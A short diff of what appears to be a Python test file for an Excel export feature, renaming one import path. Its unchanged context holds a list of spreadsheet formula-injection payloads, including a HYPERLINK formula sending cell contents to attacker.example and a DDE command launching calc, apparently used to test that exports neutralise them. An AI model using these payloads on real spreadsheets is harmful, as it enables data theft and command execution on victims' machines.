@@ -6,7 +6,7 @@ from openpyxl import load_workbook
 
 from groundstation.export.excel import write_workbook
 from groundstation.recording import RecordingWriter
-from groundstation.session.load import load_session
+from groundstation.session_makers.load import load_session
 from groundstation.sim.stream import Scenario, SimStream
 
 HOSTILE = ('=HYPERLINK("http://attacker.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)")
